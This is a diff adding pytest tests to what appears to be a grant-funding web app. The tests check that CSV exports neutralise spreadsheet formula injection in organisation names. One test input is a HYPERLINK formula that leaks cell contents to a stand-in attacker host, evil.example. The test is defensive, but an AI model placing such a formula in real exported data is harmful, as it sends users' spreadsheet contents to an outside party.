@@ -241,3 +241,29 @@ def test_the_public_round_page_links_to_both_files_once_published(client, fundin
     page = client.get(funding_round.get_absolute_url()).content.decode()
     assert "The grants awarded" not in page
     assert reverse("panels:grants_csv", args=[funding_round.slug]) not in page
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+        "+44 Friends",
+        "-1+1",
+        "@SUM(A1:A9)",
+        "\tTabbed",
+        "\rReturned",
+    ],
+)
+def test_a_name_that_a_spreadsheet_would_run_reaches_the_csv_as_plain_text(client, funding_round, name):
+    """OWASP's CSV-injection advice: a cell that begins =, +, -, @, tab or carriage return starts
+    with an apostrophe, so a spreadsheet shows it instead of running it. The JSON keeps the name."""
+    decide(funding_round, OrganisationFactory(name=name), amount=Decimal("50000"))
+    _, rows = csv_rows(client, funding_round)
+    names = [row["Recipient Org:Name"] for row in rows]
+    assert names == ["'" + name]
+    assert [grant["recipientOrganization"][0]["name"] for grant in json_grants(client, funding_round)] == [name]
+
+
+def test_ordinary_names_and_amounts_are_left_as_they_are(client, funding_round, grants):
+    _, rows = csv_rows(client, funding_round)
+    assert not any(value.startswith("'") for row in rows for value in row.values())
